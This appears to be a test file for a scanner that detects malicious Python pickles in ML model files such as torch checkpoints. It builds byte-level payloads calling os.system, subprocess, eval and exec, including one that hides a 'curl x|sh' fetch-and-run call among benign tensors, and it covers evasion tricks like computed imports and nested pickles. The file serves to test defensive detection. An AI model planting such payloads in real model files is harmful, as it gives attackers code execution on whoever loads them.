// Every class of threats.md §2 with several instances, built from raw opcode bytes. Each test names the check
// that must fire and the verdict that must follow.
import { callPickle, cat, latin, legacyTorchFile, PickleWriter, torchStateDict, u32le, u64le, utf8 } from '../../support/pickle-bytes.js';
import { checks, find, globalsOf, names, scan, verdict } from './helpers.js';

describe('imports of dangerous callables (GLOBAL, INST, OBJ, STACK_GLOBAL)', () => {
  test.each([
    ['os', 'system'], ['posix', 'system'], ['nt', 'system'], ['subprocess', 'Popen'], ['subprocess', 'check_output'],
    ['builtins', 'eval'], ['builtins', 'exec'], ['builtins', 'getattr'], ['runpy', '_run_code'], ['webbrowser', 'open'],
    ['socket', 'create_connection'], ['shutil', 'rmtree'], ['functools', 'partial'], ['operator', 'attrgetter'],
    ['pickle', 'loads'], ['torch', 'load'], ['torch.hub', 'load'], ['numpy.testing._private.utils', 'runstring'],
    ['pdb', 'run'], ['timeit', 'timeit'], ['ctypes', 'CDLL'], ['importlib', 'import_module'], ['picklescan.scanner', 'scan']
  ])('GLOBAL %s.%s → critical', (m, n) => {
    for (const proto of [0, 2, 4]) {
      const o = scan(callPickle(m, n, ['id'], proto));
      expect(verdict(o)).toBe('rejected');
      const f = find(o, 'pickle.global.dangerous');
      expect(f?.severity).toBe('critical');
      expect(f?.evidence).toMatch(new RegExp(`^(GLOBAL|STACK_GLOBAL) ${m.replace(/\./g, '\\.')}\\.${n} @ 0x[0-9a-f]+$`));
    }
  });

  test('INST and OBJ import and call in one step', () => {
    const inst = scan(latin("(S'id'\nios\nsystem\n."));
    expect(find(inst, 'pickle.global.dangerous')?.evidence).toBe('INST os.system @ 0x7');
    expect(inst.details?.calls).toBe(1);
    const obj = scan(latin("(csubprocess\ncall\nS'id'\no."));
    expect(find(obj, 'pickle.global.dangerous')?.evidence).toBe('GLOBAL subprocess.call @ 0x1');
    expect(obj.details?.calls).toBe(1);
  });

  test('offsets are absolute in the file when the pickle sits inside a container', () => {
    const o = scan(callPickle('os', 'system', ['id']), { baseOffset: 0x1000, path: 'model.pt' });
    const f = find(o, 'pickle.global.dangerous');
    expect(f?.offset).toBe(0x1002);
    expect(f?.file).toBe('model.pt');
    expect(f?.evidence).toBe('GLOBAL os.system @ 0x1002');
  });

  test('a payload hidden among benign tensors is found, with the clean globals still listed', () => {
    const clean = torchStateDict([{ name: 'w', key: '0', shape: [2] }]);
    // Replace the trailing BUILD+STOP with an extra os.system call that is then discarded.
    const evil = cat(clean.subarray(0, clean.length - 1), latin("cos\nsystem\n(S'curl x|sh'\ntR0."));
    const o = scan(evil, { torchDataPkl: true });
    expect(verdict(o)).toBe('rejected');
    expect(names(o)).toContain('os.system');
    expect(o.details?.weightsOnly).toMatchObject({ loads: false, blockedBy: 'GLOBAL os.system' });
  });
});

describe('STACK_GLOBAL resolution', () => {
  test('names fetched back from the memo (MEMOIZE keys are the memo size) resolve to the real import', () => {
    const w = new PickleWriter(4);
    w.str('os').str('getcwd').raw([0x93]).memoize().emptyTuple().reduce().raw('0'); // os memo 0, getcwd memo 1
    w.get(0).str('system').raw([0x93]).str('id').tuple(1).reduce().stop();
    const o = scan(w.bytesOut());
    expect(names(o)).toEqual(['os.getcwd', 'os.system']);
  });

  test('module or name computed at load time is a dynamic import (critical)', () => {
    const w = new PickleWriter(4);
    w.global('builtins', 'str').str('o').tuple(1).reduce(); // str('o') — not a literal any more
    w.str('system').raw([0x93]).stop();
    const o = scan(w.bytesOut());
    expect(find(o, 'pickle.dynamic-import')?.severity).toBe('critical');
    const w2 = new PickleWriter(4);
    w2.str('os').global('codecs', 'decode').str('flfgrz').str('rot13').tuple(2).reduce().raw([0x93]).stop();
    expect(checks(scan(w2.bytesOut()))).toContain('pickle.dynamic-import');
  });

  test('STACK_GLOBAL of non-strings is an unpickling error (as in C), not an import', () => {
    const o = scan(cat([0x80, 4], [0x4b, 1, 0x4b, 2, 0x93, 0x2e]));
    expect(find(o, 'pickle.parse-error')?.message).toMatch(/STACK_GLOBAL requires str/);
  });

  test.each([
    ['pathlib', 'os.system'], ['torch', 'os.system'], ['collections', 'os.popen'], ['numpy', 'ctypeslib.load_library'],
    ['logging', 'os.system']
  ])('dotted name %s + %s reaches a dangerous callable through getattr', (m, n) => {
    const o = scan(callPickle(m, n, ['id'], 4));
    expect(find(o, 'pickle.global.dangerous')?.severity).toBe('critical');
  });

  test.each([
    ['builtins', '__import__'], ['torch', '__builtins__'], ['collections', 'OrderedDict.__class__'],
    ['numpy', 'ndarray.__subclasses__'], ['copyreg', '__reduce_ex__'], ['torch.nn', 'Module.__init__.__globals__']
  ])('dunder component in %s.%s → pickle.dunder critical', (m, n) => {
    const o = scan(callPickle(m, n, [], 4));
    expect(find(o, 'pickle.dunder')?.severity).toBe('critical');
  });
});

describe('Python 2 names as CPython maps them (protocol < 3)', () => {
  test.each([
    ['__builtin__', 'eval', 'builtins.eval'], ['commands', 'getoutput', 'subprocess.getoutput'],
    ['cPickle', 'loads', 'pickle.loads'], ['urllib', 'urlretrieve', 'urllib.request.urlretrieve'],
    ['__builtin__', 'reduce', 'functools.reduce'], ['__builtin__', 'intern', 'sys.intern']
  ])('%s.%s is imported as %s', (m, n, real) => {
    const o = scan(callPickle(m, n, ['x'], 2));
    expect(names(o)).toEqual([real]);
    expect(find(o, 'pickle.global.dangerous')?.message).toContain(`written as ${m}.${n}`);
  });

  test('copy_reg._reconstructor is the review-tier copyreg._reconstructor; protocol 3 does not map', () => {
    expect(globalsOf(scan(callPickle('copy_reg', '_reconstructor', [], 2)))[0]).toMatchObject({ module: 'copyreg', tier: 'review' });
    const p3 = scan(callPickle('__builtin__', 'eval', ['1'], 3));
    expect(names(p3)).toEqual(['__builtin__.eval']);
    expect(verdict(p3)).toBe('rejected');
  });
});

describe('other import and call paths', () => {
  test.each([[0x82, [0x01]], [0x83, [0x01, 0x02]], [0x84, u32le(70000)]])('EXT opcode 0x%s → pickle.ext critical', (op, arg) => {
    const o = scan(cat([0x80, 2, op as number], arg as number[], latin("S'id'\n\x85R.")));
    expect(find(o, 'pickle.ext')?.severity).toBe('critical');
    expect(o.details?.calls).toBe(1);
  });

  test('BUILD on an imported class or function itself (attribute smuggling) → critical', () => {
    const w = new PickleWriter(2);
    w.global('torch.nn.modules.linear', 'Linear').emptyDict().str('forward').global('os', 'system').setitem().build().stop();
    const o = scan(w.bytesOut());
    expect(find(o, 'pickle.build-on-import')?.severity).toBe('critical');
    const w2 = new PickleWriter(2);
    w2.global('collections', 'OrderedDict').none().emptyDict().str('__reduce__').int(1).setitem().tuple(2).build().stop();
    expect(checks(scan(w2.bytesOut()))).toContain('pickle.build-on-import');
  });

  test('calling the result of a call (gadget chain) is flagged', () => {
    const w = new PickleWriter(2);
    w.global('collections', 'OrderedDict').emptyTuple().reduce().emptyTuple().reduce().stop();
    expect(find(scan(w.bytesOut()), 'pickle.call.indirect')?.severity).toBe('high');
  });

  test('persistent ids that are not torch storages need review; PERSID text form too', () => {
    const w = new PickleWriter(2);
    w.str('evil').str('x').tuple(2).binpersid().stop();
    expect(find(scan(w.bytesOut()), 'pickle.persid')?.severity).toBe('medium');
    expect(find(scan(latin('Pfoo\n.')), 'pickle.persid')?.severity).toBe('medium');
  });

  test('unknown globals are denied by default (high); review tier is medium; policy allow promotes only those', () => {
    const unknown = scan(callPickle('mylib.models', 'Net', []));
    expect(find(unknown, 'pickle.global.unknown')?.severity).toBe('high');
    expect(find(scan(callPickle('__main__', 'Net', [])), 'pickle.global.unknown')?.severity).toBe('high');
    expect(find(scan(callPickle('argparse', 'Namespace', [])), 'pickle.global.review')?.severity).toBe('medium');
    expect(verdict(scan(callPickle('mylib.models', 'Net', []), { allow: ['mylib.models.Net'] }))).toBe('approved');
    expect(verdict(scan(callPickle('os', 'system', ['id']), { allow: ['os.system'] }))).toBe('rejected');
  });

  test('a hundred thousand imports of one global make one finding with a count', () => {
    const w = new PickleWriter(2);
    for (let i = 0; i < 100_001; i++) w.raw('cos\nsystem\n0');
    w.none().stop();
    const o = scan(w.bytesOut());
    expect(o.findings.filter((f) => f.check === 'pickle.global.dangerous')).toHaveLength(1);
    expect(find(o, 'pickle.global.dangerous')?.message).toMatch(/100001 times/);
  });
});

describe('parser differentials', () => {
  test('INT in C strtol forms (hex, octal, +sign) parses, so what follows is still scanned', () => {
    for (const i of ['I0x10\n', 'I010\n', 'I+7\n', 'I 42\n', 'I1_000\n', 'L0x10L\n']) {
      const o = scan(cat(latin(i), latin('0'), callPickle('os', 'system', ['id'], 0)));
      expect([i, o.complete, names(o)]).toEqual([i, true, ['os.system']]);
    }
  });

  test('an opcode crossing the end of its FRAME, and a FRAME inside a frame, are flagged', () => {
    const body = callPickle('os', 'system', ['id'], 2).subarray(2);
    const crossing = cat([0x80, 4, 0x95], u64le(5), body);
    const o = scan(crossing);
    expect(find(o, 'pickle.frame')?.severity).toBe('high');
    // pickle.loads reads across the frame end (os.system); the C unpickler on io.BytesIO buffered the 5-byte frame
    // and reads the name line from after it, losing its first byte: CPython imports os.ystem (loaders.test.ts).
    expect(names(o)).toEqual(['os.system', 'os.ystem']);
    const nested = cat([0x80, 4, 0x95], u64le(20), [0x95], u64le(3), [0x4e, 0x30, 0x4e, 0x2e], new Uint8Array(8));
    expect(checks(scan(nested))).toContain('pickle.frame');
  });

  test('a FRAME longer than the data is a truncation', () => {
    const o = scan(cat([0x80, 4, 0x95], u64le(1000), [0x4e, 0x2e]));
    expect(o.complete).toBe(false);
    expect(checks(o)).toContain('pickle.frame');
  });

  test('stacked pickles are all read: a benign first pickle does not hide the second', () => {
    const o = scan(cat(latin('N.'), latin('\x80\x02K\x01.'), callPickle('os', 'system', ['id'])));
    expect(o.details?.pickles).toBe(3);
    expect(names(o)).toEqual(['os.system']);
  });

  test('legacy torch: a payload in any of the five pickles is found, whatever the magic number says', () => {
    const t = [{ name: 'w', key: '0', shape: [2] }];
    const o = scan(legacyTorchFile(t, (_k, n) => new Uint8Array(n), callPickle('os', 'system', ['id'])));
    expect(o.formats).toContain('torch-legacy');
    expect(names(o)).toEqual(['os.system']);
    expect(o.details?.weightsOnly).toMatchObject({ loads: false, blockedBy: 'GLOBAL os.system' });
    expect(verdict(o)).toBe('rejected');
    // A computed "magic number" does not switch legacy parsing on: the raw bytes are then read as opcodes.
    const computed = cat(callPickle('builtins', 'int', ['0x1950a86a20f9469cfc6c']), latin('\x80\x02M\xe9\x03.'));
    expect(scan(computed).formats).toEqual(['pickle']);
  });

  test('a payload followed by garbage: the payload is reported and the garbage blocks', () => {
    const o = scan(cat(callPickle('os', 'system', ['id']), latin('\xff\xfejunk')));
    expect(names(o)).toEqual(['os.system']);
    expect(find(o, 'pickle.parse-error')?.message).toMatch(/data after pickle #1 is not a pickle/);
    expect(o.complete).toBe(false);
    const cut = callPickle('builtins', 'exec', ['print(1)']);
    const t = scan(cut.subarray(0, cut.length - 3));
    expect(names(t)).toEqual(['builtins.exec']);
    expect(find(t, 'pickle.parse-error')?.message).toMatch(/truncated/);
  });

  test.each([
    ['stack underflow', latin('R.'), /underflow/], ['missing memo key', latin('h\x05.'), /memo value not found/],
    ['unknown opcode', latin('\x00'), /invalid opcode/], ['odd SETITEMS', latin('}(K\x01u.'), /odd number/],
    ['MARK missing', latin('K\x01t.'), /could not find MARK/], ['protocol 6', latin('\x80\x06N.'), /unsupported pickle protocol 6/],
    ['NEXT_BUFFER', latin('\x80\x05\x97.'), /out-of-band/], ['empty', new Uint8Array(0), /empty/],
    ['bad INT', latin('Iabc\n.'), /not an integer/], ['unquoted STRING', latin('Sabc\n.'), /malformed/],
    ['negative BINSTRING', cat(latin('T'), u32le(-1 >>> 0), latin('.')), /negative/]
  ])('%s is a blocking parse error, never a crash', (_n, bytes, msg) => {
    const o = scan(bytes as Uint8Array);
    expect(o.complete).toBe(false);
    expect(verdict(o)).toBe('rejected');
    expect(find(o, 'pickle.parse-error')?.message).toMatch(msg as RegExp);
  });
});

describe('pickles inside literals', () => {
  const inner = callPickle('os', 'system', ['id'], 2);

  test.each([
    ['SHORT_BINBYTES', (b: Uint8Array) => cat([0x80, 3, 0x43, b.length], b, [0x2e])],
    ['BINBYTES', (b: Uint8Array) => cat([0x80, 3, 0x42], u32le(b.length), b, [0x2e])],
    ['BINUNICODE (latin1 text)', (b: Uint8Array) => { const u = utf8(String.fromCharCode(...b)); return cat([0x80, 2, 0x58], u32le(u.length), u, [0x2e]); }],
    ['_codecs.encode(str, latin1)', (b: Uint8Array) => { const w = new PickleWriter(2); w.bytes(b).stop(); return w.bytesOut(); }],
    ['SHORT_BINSTRING', (b: Uint8Array) => cat([0x55, b.length], b, [0x2e])]
  ])('a pickle in a %s literal is scanned', (_n, wrap) => {
    const o = scan(wrap(inner));
    expect(find(o, 'pickle.nested')?.severity).toBe('medium');
    expect(find(o, 'pickle.global.dangerous')?.message).toMatch(/^in the pickle embedded at 0x[0-9a-f]+: Pickle imports os\.system/);
    expect(verdict(o)).toBe('rejected');
  });

  test('a large literal (streamed, not kept) holding a pickle is scanned across chunks', () => {
    const big = cat(inner.subarray(0, inner.length - 1), latin('0'), new Uint8Array(5000).fill(0x4e), latin('.'));
    const text = utf8(String.fromCharCode(...big)); // the latin1 string _codecs.encode would turn back into `big`
    for (const bytes of [cat([0x80, 4, 0x8e], u64le(big.length), big, [0x2e]), cat([0x80, 2, 0x58], u32le(text.length), text, [0x2e])]) {
      const o = scan(bytes, {}, 97);
      expect(names(o)).toEqual(['os.system']);
      expect(checks(o)).toContain('pickle.nested');
    }
  });

  test('nesting deeper than the limit fails closed', () => {
    let p = inner;
    for (let i = 0; i < 5; i++) p = cat([0x80, 3, 0x42], u32le(p.length), p, [0x2e]);
    const o = scan(p, { limits: { maxDepth: 2 } });
    expect(find(o, 'pickle.limit')?.message).toMatch(/nested more than 2 levels/);
    expect(o.complete).toBe(false);
  });
});

describe('limits fail closed', () => {
  test.each([
    ['maxOpcodes', { maxOpcodes: 10 }, cat(latin('('), new Uint8Array(20).fill(0x4e), latin('l.'))],
    ['maxStack', { maxStack: 5 }, cat(new Uint8Array(20).fill(0x4e), latin('.'))],
    ['maxMarks', { maxMarks: 3 }, cat(new Uint8Array(5).fill(0x28), latin('N.'))],
    ['maxMemo', { maxMemo: 3 }, cat(latin('N'), new Uint8Array(8).fill(0x94), latin('.'))],
    ['maxLine', { maxLine: 16 }, latin(`c${'a'.repeat(40)}\nb\n.`)],
    ['maxGlobals', { maxGlobals: 2 }, latin('ca\nb\n0cc\nd\n0ce\nf\nN.')],
    ['maxPickles', { maxPickles: 2 }, latin('N.N.N.')]
  ])('%s', (_n, limits, bytes) => {
    const o = scan(bytes, { limits });
    expect(o.complete).toBe(false);
    expect(find(o, 'pickle.limit')?.severity).toBe('high');
  });
});

describe('functools.partial takes the tier of what it binds (torchvision 0.14.1 ViT pickles partial(nn.LayerNorm, eps=1e-6))', () => {
  /** partial(target) by REDUCE, then BUILD with partial's own state (func, args, keywords, dict), as pickle writes it. */
  function partialOf(target: [string, string], stateFunc?: [string, string], then?: (w: PickleWriter) => void): Uint8Array {
    const w = new PickleWriter(2);
    w.global('functools', 'partial'); // memo 0
    w.global(...target).tuple(1).reduce(); // memo 1
    w.mark();
    if (stateFunc) w.global(...stateFunc); else w.get(1);
    w.emptyTuple().emptyDict().str('eps').float(1e-6).setitem().none().tuple(4).build();
    then?.(w);
    return w.stop().bytesOut();
  }
  const partialFinding = (o: ReturnType<typeof scan>) => o.findings.find((f) => /imports functools\.partial/.test(f.message));

  test('of a reviewed torch.nn class: review, as the class itself', () => {
    const o = scan(partialOf(['torch.nn.modules.normalization', 'LayerNorm']));
    expect(partialFinding(o)).toMatchObject({ check: 'pickle.global.review', severity: 'medium' });
    expect(partialFinding(o)?.message).toMatch(/functools\.partial of torch\.nn\.modules\.normalization\.LayerNorm/);
    expect(verdict(o)).toBe('needs-review');
  });

  test('of an unknown class: unknown; of os.system: dangerous', () => {
    expect(partialFinding(scan(partialOf(['models', 'MyNorm'])))).toMatchObject({ check: 'pickle.global.unknown', severity: 'high' });
    expect(partialFinding(scan(partialOf(['os', 'system'])))).toMatchObject({ check: 'pickle.global.dangerous', severity: 'critical' });
  });

  test('a BUILD that swaps the bound function for a dangerous one keeps it dangerous', () => {
    const o = scan(partialOf(['torch.nn.modules.normalization', 'LayerNorm'], ['os', 'system']));
    expect(partialFinding(o)).toMatchObject({ check: 'pickle.global.dangerous', severity: 'critical' });
    expect(verdict(o)).toBe('rejected');
  });

  test('uses the VM does not follow keep it dangerous: the partial called during the load, a computed target, the class handed on', () => {
    const called = partialOf(['torch.nn.modules.normalization', 'LayerNorm'], undefined, (w) => { w.str('x').tuple(1).reduce(); });
    expect(partialFinding(scan(called))).toMatchObject({ check: 'pickle.global.dangerous' });
    expect(verdict(scan(called))).toBe('rejected');
    const computed = new PickleWriter(2);
    computed.global('functools', 'partial').global('builtins', 'getattr').global('torch.nn', 'Linear').str('forward').tuple(2).reduce().tuple(1).reduce().stop();
    expect(partialFinding(scan(computed.bytesOut()))).toMatchObject({ check: 'pickle.global.dangerous' });
    const handed = new PickleWriter(2);
    handed.global('copyreg', '__newobj__').global('functools', 'partial').global('torch.nn.modules.normalization', 'LayerNorm').tuple(2).reduce().stop();
    expect(partialFinding(scan(handed.bytesOut()))).toMatchObject({ check: 'pickle.global.dangerous' });
    expect(partialFinding(scan(callPickle('functools', 'partial', ['id'], 2)))).toMatchObject({ check: 'pickle.global.dangerous' });
  });
});
